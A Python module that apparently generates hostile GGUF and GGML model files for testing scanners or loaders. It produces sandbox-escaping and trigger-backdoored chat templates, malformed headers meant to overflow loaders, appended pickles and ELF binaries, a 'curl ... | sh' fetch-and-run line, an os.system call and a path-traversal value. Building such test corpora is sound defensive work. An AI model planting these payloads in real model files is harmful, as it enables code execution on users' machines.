"""GGUF and GGML files: templates that escape the sandbox or change behaviour on a trigger, and structure that overruns loaders."""

import struct

from assemble import call
from malicious.templates import BEHAVIOUR, ESCAPES
from payload import COMMAND
from registry import malicious

UINT32, INT32, FLOAT32, BOOL, STRING, ARRAY, UINT64 = 4, 5, 6, 7, 8, 9, 10


def text(value) -> bytes:
    data = value.encode() if isinstance(value, str) else value
    return struct.pack("<Q", len(data)) + data


def entry(key, kind: int, value: bytes) -> bytes:
    return text(key) + struct.pack("<I", kind) + value


def string_entry(key, value) -> bytes:
    return entry(key, STRING, text(value))


def tensor_info(name="blk.0.weight", dims=(32, 4), kind=0, offset=0) -> bytes:
    return text(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d & (1 << 64) - 1) for d in dims) + struct.pack("<IQ", kind, offset)


def gguf(entries=(), tensors=None, data=bytes(512), version=3, tensor_count=None, entry_count=None) -> bytes:
    """A GGUF file; counts are the true ones unless given."""
    base = [string_entry("general.architecture", "llama"), string_entry("general.name", "tiny")]
    entries = base + list(entries)
    tensors = [tensor_info()] if tensors is None else tensors
    head = b"GGUF" + struct.pack("<IQQ", version, len(tensors) if tensor_count is None else tensor_count, len(entries) if entry_count is None else entry_count)
    body = head + b"".join(entries) + b"".join(tensors)
    return body + bytes(-len(body) % 32) + data


@malicious("gguf")
def template_escapes():
    """A chat template that leaves the sandbox (CVE-2024-34359 in llama-cpp-python)."""
    for slug, template in ESCAPES.items():
        yield f"{slug}--model.gguf", gguf([string_entry("tokenizer.chat_template", template)])


@malicious("gguf")
def template_in_named_variants():
    """The hostile template is not the default one but a named variant, or an array of them."""
    escape = ESCAPES["cycler-globals"]
    honest = "{% for m in messages %}{{ m.role }}: {{ m.content }}\n{% endfor %}"
    yield "tool-use--model.gguf", gguf([string_entry("tokenizer.chat_template", honest), string_entry("tokenizer.chat_template.tool_use", escape)])
    yield "rag--model.gguf", gguf([string_entry("tokenizer.chat_template", honest), string_entry("tokenizer.chat_template.rag", BEHAVIOUR["trigger-word"])])
    yield "other-key--model.gguf", gguf([string_entry("tokenizer.chat_template", honest), string_entry("llama.prompt_template", escape)])


@malicious("gguf")
def template_backdoors():
    """A chat template that gives the model other instructions on a trigger, or sends data away."""
    for slug, template in BEHAVIOUR.items():
        yield f"{slug}--model.gguf", gguf([string_entry("tokenizer.chat_template", template)])


@malicious("gguf")
def structural_lies():
    """Counts, lengths, dimensions, offsets and alignments that overflow known loaders (CVE-2024-25664 to 25668, 32878, 23496, 21802 and kin)."""
    cases = {
        "entry-count-huge": gguf(entry_count=1 << 60), "tensor-count-huge": gguf(tensor_count=1 << 60), "entry-count-plus-one": gguf(entry_count=3), "string-length-huge": gguf([text("a.b") + struct.pack("<IQ", STRING, 1 << 62) + b"x"]), "string-length-minus-one": gguf([text("a.b") + struct.pack("<IQ", STRING, (1 << 64) - 1) + b"x"]),
        "array-length-huge": gguf([entry("tokenizer.ggml.tokens", ARRAY, struct.pack("<IQ", STRING, 1 << 61))]), "array-of-unknown": gguf([entry("a", ARRAY, struct.pack("<IQ", 99, 4))]), "nested-arrays": gguf([entry("a", ARRAY, b"".join(struct.pack("<IQ", ARRAY, 1) for _ in range(5000)) + struct.pack("<IQ", UINT32, 0))]), "unknown-type": gguf([entry("a", 77, bytes(8))]),
        "dimension-overflow": gguf(tensors=[tensor_info(dims=(1 << 62, 1 << 62))]), "dimension-zero-product": gguf(tensors=[tensor_info(dims=(1 << 33, 1 << 33))]), "dimension-negative": gguf(tensors=[tensor_info(dims=(-1, 4))]), "five-dimensions": gguf(tensors=[tensor_info(dims=(2, 2, 2, 2, 2))]), "many-dimensions": gguf(tensors=[tensor_info(dims=(1,) * 1000)]),
        "offset-beyond": gguf(tensors=[tensor_info(offset=1 << 40)]), "offset-unaligned": gguf(tensors=[tensor_info(offset=7)]), "offset-overflow": gguf(tensors=[tensor_info(offset=(1 << 64) - 32)]), "overlap": gguf(tensors=[tensor_info("a"), tensor_info("b", offset=32)], data=bytes(2048)), "unknown-tensor-type": gguf(tensors=[tensor_info(kind=999)]), "truncated-data": gguf(tensors=[tensor_info(dims=(4096, 4096))]),
        "alignment-zero": gguf([entry("general.alignment", UINT32, struct.pack("<I", 0))]), "alignment-odd": gguf([entry("general.alignment", UINT32, struct.pack("<I", 33))]), "alignment-wrong-type": gguf([string_entry("general.alignment", "32")]), "version-unknown": gguf(version=99), "duplicate-key": gguf([string_entry("general.architecture", "gpt2")]), "duplicate-tensor": gguf(tensors=[tensor_info("a"), tensor_info("a", offset=512)], data=bytes(2048)),
        "truncated-header": gguf()[:20], "truncated-entry": gguf()[:50], "long-tensor-name": gguf(tensors=[tensor_info("n" * 100)]), "invalid-utf8-key": gguf([entry(b"\xff\xfe\xfd", UINT32, bytes(4))]), "block-not-divisible": gguf(tensors=[tensor_info(dims=(33, 1), kind=2)]), "token-count-mismatch": gguf([entry("tokenizer.ggml.tokens", ARRAY, struct.pack("<IQ", STRING, 2) + text("a") + text("b")), entry("tokenizer.ggml.scores", ARRAY, struct.pack("<IQ", FLOAT32, 9) + bytes(36))]),
        "bool-not-bool": gguf([entry("a.b", BOOL, b"\x07")]), "bos-beyond-vocabulary": gguf([entry("tokenizer.ggml.tokens", ARRAY, struct.pack("<IQ", STRING, 1) + text("a")), entry("tokenizer.ggml.bos_token_id", UINT32, struct.pack("<I", 1 << 30))]),
    }
    for slug, data in cases.items():
        yield f"{slug}--model.gguf", data


@malicious("gguf")
def payloads_and_neighbours():
    """Pickles and executables inside, before or after; metadata that points elsewhere."""
    evil = call("os", "system", COMMAND)
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(600)
    yield "appended-pickle--model.gguf", gguf() + evil
    yield "appended-elf--model.gguf", gguf() + elf
    yield "appended-zip--model.gguf", gguf() + b"PK\x03\x04" + bytes(30) + b"PK\x05\x06" + bytes(18)
    yield "elf-tensor--model.gguf", gguf(data=elf[:512])
    yield "pickle-in-metadata--model.gguf", gguf([string_entry("general.description", evil)])
    yield "script-in-metadata--model.gguf", gguf([string_entry("general.description", "#!/bin/sh\ncurl http://192.0.2.1/x | sh")])
    yield "python-in-metadata--model.gguf", gguf([string_entry("tokenizer.ggml.pre", "__import__('os').system('id')")])
    yield "traversal-in-split--model.gguf", gguf([string_entry("split.path", "../../../../etc/passwd")])
    yield "pickle-renamed--model.gguf", evil


@malicious("ggml")
def old_ggml():
    """GGML, GGMF and GGJT files whose header counts overflow, and pickles under their names."""
    for magic in (b"lmgg", b"fmgg", b"tjgg"):
        slug = magic[::-1].decode()
        yield f"{slug}-huge-vocabulary--model.bin", magic + struct.pack("<IIIIIIII", 1, 0x7FFFFFFF, 4096, 32, 32, 32, 128, 2) + bytes(64)
        yield f"{slug}-huge-string--model.bin", magic + struct.pack("<IIIIIIII", 1, 2, 4, 4, 1, 1, 4, 0) + struct.pack("<I", 0xFFFFFFFF) + b"abc"
        yield f"{slug}-appended-elf--model.ggml", magic + struct.pack("<IIIIIIII", 1, 1, 4, 4, 1, 1, 4, 0) + struct.pack("<I", 1) + b"a" + bytes(4) + b"\x7fELF\x02\x01\x01" + bytes(200)
    yield "negative-dimensions--model.ggml", b"lmgg" + struct.pack("<iiiiiii", -1, -1, -1, -1, -1, -1, -1) + bytes(64)
